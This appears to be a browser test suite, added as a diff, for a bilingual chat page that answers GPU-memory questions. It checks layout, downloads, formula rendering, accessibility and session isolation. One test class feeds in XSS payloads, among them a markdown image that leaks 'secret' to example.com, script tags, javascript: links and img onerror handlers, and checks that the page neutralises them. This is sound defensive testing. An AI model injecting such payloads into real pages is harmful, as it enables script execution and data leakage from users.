@@ -1,0 +1,298 @@
+"""The page in a real browser: questions in two languages, files, formulas, and not one request to anybody else."""
+
+import json
+import os
+import shutil
+from collections.abc import Iterator
+from contextlib import contextmanager
+from typing import Any
+
+import pytest
+
+from chat.events import Answer, Finished, Prose
+from chat.words import PAGE
+from formulas.errors import BadInput
+from tests.fakes import RESULT, FakeAssistant
+
+pytestmark = pytest.mark.slow
+TOOL_CARD = "#kb-chat .thought-group"
+PATIENCE = 30_000  # milliseconds
+
+
+@pytest.fixture(scope="module")
+def browser() -> Iterator[Any]:
+    path = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome", "chrome"))), None)
+    if path is None:
+        missing = "no Chromium on this machine: the page was not driven (apt install chromium)"
+        if os.environ.get("CI"):
+            pytest.fail(missing)
+        pytest.skip(missing)
+    sync_api = pytest.importorskip("playwright.sync_api")
+    quiet = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]
+    with sync_api.sync_playwright() as playwright:
+        chromium = playwright.chromium.launch(executable_path=path, args=quiet)
+        yield chromium
+        chromium.close()
+
+
+@contextmanager
+def served(page: Any) -> Iterator[str]:
+    from chat.app import launch
+
+    try:
+        yield launch(page, block=False)
+    finally:
+        page.close(verbose=False)
+
+
+@pytest.fixture(scope="module", params=["stand-in", "real"])
+def address(request: Any) -> Iterator[str]:
+    """The page with the project's own assistant, and with one that says what a script says."""
+    from chat.agent import Assistant
+    from chat.app import build, warm
+
+    assistant = Assistant() if request.param == "real" else FakeAssistant()
+    warm(assistant)
+    with served(build(assistant)) as address:
+        yield address
+
+
+@contextmanager
+def visit(browser: Any, address: str, locale: str = "en", **how: Any) -> Iterator[Any]:
+    """A visitor with an own browser profile; leaves with an error if the page asked anybody but its own server."""
+    context = browser.new_context(locale=locale, **how)
+    context.set_default_timeout(PATIENCE)
+    page = context.new_page()
+    foreign: list[str] = []
+    page.on("request", lambda request: None if _own(request.url, address) else foreign.append(request.url))
+    page.goto(address)
+    page.wait_for_selector("#kb-example_1")
+    try:
+        yield page
+    finally:
+        context.close()
+    assert not foreign, f"the page asked others: {foreign}"
+
+
+def _own(url: str, address: str) -> bool:
+    return url.startswith((address, "data:", "blob:"))
+
+
+def ask(page: Any, question: str) -> None:
+    """Types a question, sends it with Enter and waits until the answer is whole."""
+    turns = page.locator("#kb-chat .user-row").count()
+    page.wait_for_selector("#kb-ask .submit-button")
+    page.fill("#kb-ask textarea", question)
+    page.press("#kb-ask textarea", "Enter")
+    page.wait_for_function(f"document.querySelectorAll('#kb-chat .user-row').length > {turns}")
+    page.wait_for_selector("#kb-ask .submit-button")
+    page.wait_for_timeout(300)
+
+
+def overflow(page: Any) -> int:
+    return int(page.evaluate("document.documentElement.scrollWidth - innerWidth"))
+
+
+@pytest.mark.parametrize(
+    ("locale", "language", "derivation"), [("en-US", "en", "Derivation"), ("zh-CN", "zh", "推导过程")]
+)
+def test_a_question_is_answered_in_full(
+    browser: Any, address: str, locale: str, language: str, derivation: str, tmp_path: Any
+) -> None:
+    words = PAGE[language]
+    with visit(browser, address, locale) as page:
+        assert page.locator("#kb-ask textarea").get_attribute("placeholder") == words["placeholder"]
+        assert page.locator("#kb-example_1").inner_text() == words["example_1"]
+        assert words["hero"].splitlines()[0].lstrip("# ") in page.locator("#kb-invite").inner_text()
+
+        page.click("#kb-example_1")
+        page.wait_for_selector(".kb-file")
+        assert page.locator(".kb-question").inner_text() == words["example_1"]
+        assert page.locator("#kb-new").inner_text().strip() == words["new"]
+        folded = page.locator(TOOL_CARD)
+        assert folded.count() >= 2, "a tool's card and the derivation"
+        assert page.locator(".kb-verdict").first.is_visible()
+        assert page.locator(".kb-picture svg.kb-bar").count() > 1
+        assert page.locator(".kb-picture svg.kb-bar title").first.text_content()
+
+        assert page.locator(".katex").count() == 0, "the derivation is folded"
+        page.locator(TOOL_CARD, has_text=derivation).locator("[role=button]").first.click()
+        page.wait_for_selector(".katex-display")
+        assert page.locator(".katex-error").count() == 0
+        page.locator(TOOL_CARD).first.locator("[role=button]").first.click()
+        page.wait_for_selector(".kb-tool pre")
+
+        page.locator(".kb-foot summary").click()
+        links = page.locator(".kb-foot li a").evaluate_all("links => links.map(link => link.href)")
+        assert links
+        assert all(link.startswith(("https://", "http://")) for link in links)
+
+        files = {}
+        for link in page.locator(".kb-file").all():
+            with page.expect_download() as coming:
+                link.click()
+            path = tmp_path / coming.value.suggested_filename
+            coming.value.save_as(path)
+            files[path.suffix] = path.read_text(encoding="utf-8")
+        assert words["example_1"] in files[".md"]
+        assert "$$" in files[".md"]
+        assert files[".tex"].startswith("\\documentclass")
+        assert "\\begin{aligned}" in files[".tex"]
+        assert files[".tex"].rstrip().endswith("\\end{document}")
+        assert "$$" not in files[".tex"]
+        assert json.loads(files[".json"])["question"] == words["example_1"]
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+@pytest.mark.parametrize("locale", ["en-US", "zh-CN"])
+def test_a_phone_needs_no_sideways_scrolling(browser: Any, address: str, locale: str, scheme: str) -> None:
+    with visit(browser, address, locale, viewport={"width": 390, "height": 844}, color_scheme=scheme) as page:
+        assert overflow(page) <= 0
+        page.click("#kb-example_1")
+        page.wait_for_selector(".kb-file")
+        for fold in [*page.locator("#kb-chat summary").all(), *page.locator(f"{TOOL_CARD} > [role=button]").all()]:
+            fold.click()
+        assert overflow(page) <= 0
+        inside = page.locator("#kb-chat .bubble-wrap").evaluate("view => view.scrollWidth - view.clientWidth")
+        assert inside <= 0
+        question_box = page.locator("#kb-ask").bounding_box()
+        assert question_box["y"] + question_box["height"] <= 844
+
+
+def test_visitors_share_nothing_and_a_new_conversation_is_empty(browser: Any) -> None:
+    from chat.app import build
+
+    with served(build(FakeAssistant())) as address, visit(browser, address) as one, visit(browser, address) as other:
+        ask(one, "first of one")
+        ask(one, "second of one")
+        ask(other, "first of other")
+        assert one.locator(".kb-question").all_inner_texts() == ["first of one", "second of one"]
+        assert other.locator(".kb-question").all_inner_texts() == ["first of other"]
+        one.click("#kb-new")
+        one.wait_for_selector("#kb-example_1")
+        assert one.locator(".kb-question").count() == 0
+
+
+def test_the_keyboard_is_enough(browser: Any, address: str) -> None:
+    with visit(browser, address) as page:
+        assert page.evaluate("document.activeElement.tagName") == "TEXTAREA"
+        page.keyboard.type(PAGE["en"]["example_1"])
+        page.keyboard.press("Enter")
+        page.wait_for_selector(".kb-file")
+        fold = page.locator(f"{TOOL_CARD} > [role=button]").last
+        fold.focus()
+        page.keyboard.press("Enter")
+        page.wait_for_selector(".katex-display")
+        assert fold.get_attribute("aria-expanded") == "true"
+        unnamed = page.evaluate(
+            "[...document.querySelectorAll('#kb-chat button, #kb-ask button, #kb-ask textarea')].filter(e =>"
+            " !e.hidden && e.getAttribute('aria-hidden') !== 'true' && !e.closest('.top-panel') &&"
+            " !(e.getAttribute('aria-label') || e.title || e.innerText.trim())).map(e => e.outerHTML.slice(0, 200))"
+        )
+        assert not unnamed
+
+
+def test_long_and_empty_questions_do_not_choke_the_page(browser: Any, address: str) -> None:
+    with visit(browser, address) as page:
+        ask(page, "x" * 100_000)
+        assert "100,000" in page.locator(".kb-question").last.inner_text()
+        assert overflow(page) <= 0
+        ask(page, "   ")
+        assert page.locator("#kb-chat .bot-row").last.inner_text().strip()
+
+
+class Malicious(FakeAssistant):
+    """Words and sources as an attacker would like them."""
+
+    def stream(self, question: str, conversation: Any, language: str | None = None) -> Iterator[Any]:
+        text = (
+            "![x](https://example.com/leak.png?q=secret) <img src='https://example.com/b.png'>"
+            "<script>document.title='owned'</script> [click](javascript:document.title='owned')"
+        )
+        sources = [{"title": "<img src=x onerror=\"document.title='owned'\">", "url": "https://example.org/a"}]
+        sources += [{"title": "bad", "url": url} for url in ("javascript:alert(1)", "data:text/html,x", "file:///etc")]
+        facts = {"gpu": "<img src=x onerror=\"document.title='owned'\">${document.title='owned'}{{value}}"}
+        cases = [{**case, "facts": facts} for case in RESULT["cases"]]
+        yield Prose(text)
+        yield Finished(Answer(question, "en", text, {**RESULT, "cases": cases, "sources": sources}))
+
+
+def test_hostile_words_stay_words(browser: Any) -> None:
+    from chat.app import build
+
+    with served(build(Malicious())) as address:
+        context = browser.new_context()
+        page = context.new_page()
+        arrived: list[str] = []
+        page.on("response", lambda response: arrived.append(response.url))
+        page.goto(address)
+        page.wait_for_selector("#kb-example_1")
+        ask(page, "<b>bold</b> ${document.title='owned'} {{value}} $$x$$ **y** 2*A100 3*A100")
+        page.wait_for_selector(".kb-file")
+        page.locator(".kb-foot summary").click()
+        page.wait_for_timeout(500)
+        assert page.title() == "VRAM KB"
+        assert (
+            page.locator(".kb-question").inner_text()
+            == "<b>bold</b> ${document.title='owned'} {{value}} $$x$$ **y** 2*A100 3*A100"
+        )
+        assert page.locator(".kb-foot li a").evaluate_all("links => links.map(a => a.href)") == [
+            "https://example.org/a"
+        ]
+        assert page.locator("a[href^='javascript:']").count() == 0
+        assert not [url for url in arrived if not _own(url, address)]
+        context.close()
+
+
+def test_a_failure_is_said_and_the_page_goes_on(browser: Any) -> None:
+    from chat.app import build
+
+    with served(build(FakeAssistant(fail=True))) as address, visit(browser, address) as page:
+        ask(page, "will it fail?")
+        assert "Something went wrong" in page.locator("#kb-chat .bot-row").last.inner_text()
+        assert "scripted failure" not in page.content()
+        assert page.locator(f"{TOOL_CARD} .loading-spinner").count() == 0
+        ask(page, "and again?")
+        assert page.locator(".kb-question").count() == 2
+
+
+def test_every_formula_renders_in_the_page(browser: Any) -> None:
+    import gradio as gr
+
+    from chat.app import MATH
+    from formulas.library import library
+    from formulas.notation import latex
+
+    lines = [f"$${f.target.latex} = {latex(f.expr)}$$" for f in library().by_name.values()]
+    assert lines
+    with gr.Blocks() as page:
+        gr.Markdown("\n\n".join(lines), latex_delimiters=MATH, elem_id="all")
+    with served(page) as address:
+        tab = browser.new_context().new_page()
+        tab.goto(address)
+        tab.wait_for_selector("#all .katex-display", timeout=PATIENCE)
+        errors = tab.locator(".katex-error").evaluate_all("found => found.map(e => e.title + ' in ' + e.innerText)")
+        assert not errors
+        assert tab.locator("#all .katex-display").count() == len(lines)
+        tab.context.close()
+
+
+def test_other_machines_are_let_in_only_with_a_password() -> None:
+    from chat.app import credentials
+
+    assert credentials("127.0.0.1", None) is None
+    assert credentials("0.0.0.0", "me:secret:with:colons") == ("me", "secret:with:colons")
+    for host, auth in (("0.0.0.0", None), ("0.0.0.0", ""), ("127.0.0.1", "nobody"), ("::", "user:")):
+        with pytest.raises(BadInput, match="auth"):
+            credentials(host, auth)
+
+
+def test_an_answer_is_a_typed_endpoint_too() -> None:
+    from gradio_client import Client
+
+    from chat.app import build
+
+    with served(build(FakeAssistant())) as address:
+        answer = Client(address, verbose=False).predict("Can I QLoRA a 70B model on 2×A100?", api_name="/ask")
+    assert answer["verdict"] == "conditional"
+    assert answer["answer"].startswith("**On 80 GB")
